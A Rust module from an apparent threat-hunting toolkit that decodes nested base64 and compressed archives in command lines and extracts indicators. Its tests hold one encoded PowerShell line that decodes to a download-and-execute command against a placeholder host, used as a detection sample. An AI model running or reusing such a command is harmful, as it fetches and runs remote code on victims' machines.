//! What is encoded in a text, or in the columns of a frame.

use std::sync::Arc;

use analysis::{Content, Ioc, Piece, TextColumns};
use model::{Cell, count};
use polars::prelude::DataFrame;
use view::Report;

use crate::iocs::Iocs;
use crate::listing::{List, number};
use crate::registry::{Notebooklet, Run, one};
use crate::searched::{self, Searched};
use crate::{Result, Show, show::ROWS};

/// What is known about [`decode`] without running it.
pub(crate) static META: Notebooklet = Notebooklet {
    entity: "",
    name: "decode",
    title: "Decoded",
    arguments: &["text"],
    tables: &[],
    summary: "what is base64 in a text, and packed in that, one inside the other; decode_in does it for the columns of a frame",
    run: Run::Function(|arguments| Ok(Box::new(decode(one(arguments)?)?))),
};

/// Decodes what is base64 in a text, and unpacks gzip, zlib, DEFLATE, ZIP and tar in that, one inside the other:
/// `decode("powershell -enc …")?`.
///
/// Nothing is run or written. A text unpacks to 16 MiB and 256 pieces at most, 16 levels deep; where that ended the
/// search, it is said.
///
/// # Errors
///
/// If the analyst interrupts.
pub fn decode(text: &str) -> Result<Decoded> {
    let _running = channel::running();
    Decoded::find(&TextColumns::one(text))
}

/// Decodes what is encoded in columns of a frame: `decode_in(&frame, &["CommandLine"])?`; `&[]` are all columns of
/// text.
///
/// # Errors
///
/// If a column is not there, none holds texts, or the analyst interrupts.
pub fn decode_in(frame: &DataFrame, columns: &[&str]) -> Result<Decoded> {
    let _running = channel::running();
    Decoded::find(&TextColumns::read(frame, columns)?)
}

/// What was encoded, and where. A cheap handle.
#[derive(Clone, Debug)]
pub struct Decoded {
    columns: Arc<Vec<Searched<analysis::Decoded>>>,
}

/// A piece with its column, row, and number in its text.
type Row<'a> = (&'a str, u32, usize, &'a Piece);

impl Decoded {
    pub(crate) fn find(columns: &TextColumns) -> Result<Self> {
        Ok(Self { columns: Arc::new(searched::search(columns, |texts| searched::each(texts, analysis::decode))?) })
    }

    /// All pieces of all texts, each text once; each piece is followed by what is inside it.
    #[must_use]
    pub fn pieces(&self) -> Vec<Piece> {
        self.columns.iter().flat_map(|it| &it.found).flat_map(|it| &it.pieces).cloned().collect()
    }

    /// The texts among the pieces.
    #[must_use]
    pub fn texts(&self) -> Vec<String> {
        self.columns.iter().flat_map(|it| &it.found).flat_map(|it| it.texts()).map(str::to_owned).collect()
    }

    /// How many pieces there are.
    #[must_use]
    pub fn len(&self) -> usize {
        self.columns.iter().flat_map(|it| &it.found).map(|it| it.pieces.len()).sum()
    }

    /// Whether nothing was encoded.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// The indicators in the texts that were encoded. SourceColumn says of what column, SourceIndex of what row.
    ///
    /// # Errors
    ///
    /// If the analyst interrupts.
    pub fn iocs(&self) -> Result<Iocs> {
        let _running = channel::running();
        let one = |column: &Searched<analysis::Decoded>| {
            let mut texts: Vec<&str> = Vec::new();
            let mut texts_of: Vec<std::ops::Range<u32>> = Vec::with_capacity(column.found.len());
            for found in &column.found {
                let first = searched::number(texts.len());
                texts.extend(found.texts());
                texts_of.push(first..searched::number(texts.len()));
            }
            let of_row = |(row, place): &(u32, u32)| {
                let texts = texts_of.get(*place as usize).cloned().unwrap_or_default();
                let row = *row;
                texts.map(move |it| (row, it))
            };
            let found: Vec<Vec<Ioc>> = searched::each(&texts, analysis::iocs)?;
            let name = match column.column.as_str() {
                "" => String::new(),
                name => format!("{name}, decoded"),
            };
            Ok(Searched { column: name, rows: column.rows.iter().flat_map(of_row).collect(), found })
        };
        Ok(Iocs::of(self.columns.iter().map(one).collect::<Result<_>>()?))
    }

    /// One row for each piece in each row: SourceColumn, SourceIndex (the row of the frame, from 0), Piece (its number
    /// in its text), Parent (the piece that it was in), Depth, Encoding, Name (in an archive), Start and End (bytes of
    /// the text around it), EncodedLength, Length, SHA256, FileType, Text, Head (the first bytes of what is no text,
    /// in hexadecimal), Remark.
    ///
    /// # Errors
    ///
    /// If polars cannot make the frame.
    pub fn frame(&self) -> Result<DataFrame> {
        let rows: Vec<Row<'_>> = self.rows().collect();
        let pieces = || rows.iter().map(|it| it.3);
        let heads: Vec<Option<String>> = pieces().map(|it| head(it, Content::HEAD)).collect();
        let kinds: Vec<String> = pieces().map(kind).collect();
        let remarks: Vec<Option<String>> = pieces().map(remark).collect();
        searched::frame(vec![
            searched::texts("SourceColumn", rows.iter().map(|it| Some(it.0).filter(|it| !it.is_empty()))),
            searched::numbers("SourceIndex", rows.iter().map(|it| Some(it.1 as usize))),
            searched::numbers("Piece", rows.iter().map(|it| Some(it.2))),
            searched::numbers("Parent", pieces().map(|it| it.parent)),
            searched::numbers("Depth", pieces().map(|it| Some(it.depth))),
            searched::texts("Encoding", pieces().map(|it| Some(it.encoding.words()))),
            searched::texts("Name", pieces().map(|it| it.name.as_deref())),
            searched::numbers("Start", pieces().map(|it| it.place.as_ref().map(|it| it.start))),
            searched::numbers("End", pieces().map(|it| it.place.as_ref().map(|it| it.end))),
            searched::numbers("EncodedLength", pieces().map(|it| Some(it.encoded_len))),
            searched::numbers("Length", pieces().map(|it| Some(it.len))),
            searched::texts("SHA256", pieces().map(|it| Some(it.sha256.as_str()))),
            searched::texts("FileType", kinds.iter().map(|it| Some(it.as_str()))),
            searched::texts("Text", pieces().map(Piece::text)),
            searched::texts("Head", heads.iter().map(Option::as_deref)),
            searched::texts("Remark", remarks.iter().map(Option::as_deref)),
        ])
    }

    fn rows(&self) -> impl Iterator<Item = Row<'_>> {
        self.columns.iter().flat_map(|column| {
            column.rows.iter().flat_map(move |(row, place)| {
                let found = column.found.get(*place as usize);
                let pieces = found.map(|it| it.pieces.as_slice()).unwrap_or_default();
                pieces.iter().enumerate().map(move |(at, piece)| (column.column.as_str(), *row, at, piece))
            })
        })
    }
}

/// What a piece is, in words.
pub(crate) fn kind(piece: &Piece) -> String {
    match &piece.content {
        Content::Text { charset, .. } => format!("text in {}", charset.words()),
        Content::Binary { .. } if piece.len == 0 => "empty".to_owned(),
        Content::Binary { file_type, .. } => file_type.unwrap_or("bytes of no known type").to_owned(),
    }
}

/// What is wrong with a piece.
fn remark(piece: &Piece) -> Option<String> {
    let unreadable = match &piece.content {
        Content::Text { unreadable, .. } if *unreadable > 0 => {
            Some(format!("{} characters could not be read", count(*unreadable as u64)))
        }
        _ => None,
    };
    let all: Vec<String> = piece.cut.map(str::to_owned).into_iter().chain(unreadable).collect();
    (!all.is_empty()).then(|| all.join("; "))
}

/// The first bytes of what is no text.
pub(crate) fn head(piece: &Piece, at_most: usize) -> Option<String> {
    let Content::Binary { head, .. } = &piece.content else { return None };
    let bytes: Vec<String> = head.iter().take(at_most).map(|it| format!("{it:02x}")).collect();
    Some(bytes.join(" "))
}

/// So many bytes of what is no text are shown.
const HEAD: usize = 32;
/// So many texts are shown in full.
const TEXTS: usize = 12;

impl Show for Decoded {
    fn report(&self) -> Report {
        let is_frame = self.columns.iter().any(|it| !it.column.is_empty());
        let mut report = Report::new("Decoded");
        if is_frame {
            let names: Vec<&str> = self.columns.iter().map(|it| it.column.as_str()).collect();
            let texts: usize = self.columns.iter().map(|it| it.rows.len()).sum();
            report = report.subtitle(format!("{} texts of {}", count(texts as u64), names.join(" and ")));
        }
        if self.is_empty() {
            return report.note("nothing is encoded in base64");
        }
        // The same text in many rows is listed once.
        let mut rows = Vec::new();
        let mut texts: Vec<(String, &str)> = Vec::new();
        for column in self.columns.iter() {
            let mut seen = vec![0_u64; column.found.len()];
            for (_, place) in &column.rows {
                seen[*place as usize] += 1;
            }
            for (found, seen) in column.found.iter().zip(seen) {
                for piece in &found.pieces {
                    let mut cells = row(piece, rows.len() + 1);
                    if let Some(text) = piece.text().filter(|_| texts.len() < TEXTS) {
                        texts.push((format!("{}: {}", rows.len() + 1, kind(piece)), text));
                    }
                    cells.extend(is_frame.then(|| number(seen)));
                    rows.push(cells);
                }
            }
        }
        let mut columns = vec!["", "Encoding", "Name", "What it is", "Bytes", "Content", "SHA-256", "Remark"];
        columns.extend(is_frame.then_some("Rows"));
        report = report.table("", &List::new(&columns, rows), 2 * ROWS);
        for (title, text) in texts {
            report = report.code(title, text);
        }
        for words in self.columns.iter().flat_map(|it| &it.found).filter_map(|it| it.ended_by).take(1) {
            report = report.note(format!("not everything was looked at: {words}"));
        }
        match self.iocs() {
            Ok(iocs) if !iocs.is_empty() => report.append(iocs.report()),
            _ => report,
        }
    }
}

/// The cells of a piece; the number is indented by its depth.
fn row(piece: &Piece, number_of: usize) -> Vec<Cell> {
    let content = piece.text().map(str::to_owned).or_else(|| head(piece, HEAD)).unwrap_or_default();
    vec![
        Cell::Text(format!("{}{number_of}", "· ".repeat(piece.depth - 1))),
        Cell::Text(piece.encoding.words().to_owned()),
        piece.name.clone().map_or(Cell::Null, Cell::Text),
        Cell::Text(kind(piece)),
        number(piece.len as u64),
        Cell::Text(content),
        Cell::Text(piece.sha256.clone()),
        remark(piece).map_or(Cell::Null, Cell::Text),
    ]
}

#[cfg(test)]
mod tests {
    use polars::prelude::df;

    use super::*;

    /// `IEX (iwr hxxp://evil[.]example/a)` as PowerShell takes it.
    const LINE: &str = "powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAvAGEAKQA=";

    #[test]
    fn a_text_is_decoded_and_what_is_in_it_named() {
        let found = decode(LINE).unwrap_or_else(|error| panic!("{error}"));
        assert_eq!(found.texts(), ["IEX (iwr http://evil.example/a)"]);
        let text = found.report().to_text();
        assert!(text.contains("text in UTF-16LE") && text.contains("hxxp://evil[.]example/a"), "{text}");
        assert!(text.contains("1 dns, 1 url") || text.contains("1 url, 1 dns"), "{text}");
        let nothing = decode("whoami").map(|it| it.report().to_text());
        assert!(nothing.is_ok_and(|it| it == "Decoded\nnothing is encoded in base64"));
    }

    #[test]
    fn rows_of_a_frame_keep_their_numbers() {
        let lines = [Some("whoami"), Some(LINE), None, Some(LINE)];
        let frame = df!("CommandLine" => lines).unwrap_or_else(|error| panic!("{error}"));
        let found = decode_in(&frame, &[]).unwrap_or_else(|error| panic!("{error}"));
        assert_eq!(found.len(), 1, "the same text once");
        let indexes = |frame: Result<DataFrame>| -> Vec<Option<i64>> {
            let frame = frame.unwrap_or_else(|error| panic!("{error}"));
            let column = frame.column("SourceIndex").and_then(|it| it.i64());
            column.map(|it| it.iter().collect()).unwrap_or_default()
        };
        assert_eq!(indexes(found.frame()), [Some(1), Some(3)]);
        let iocs = found.iocs().unwrap_or_else(|error| panic!("{error}"));
        assert_eq!(indexes(iocs.frame()), [Some(1), Some(1), Some(3), Some(3)]);
    }
}
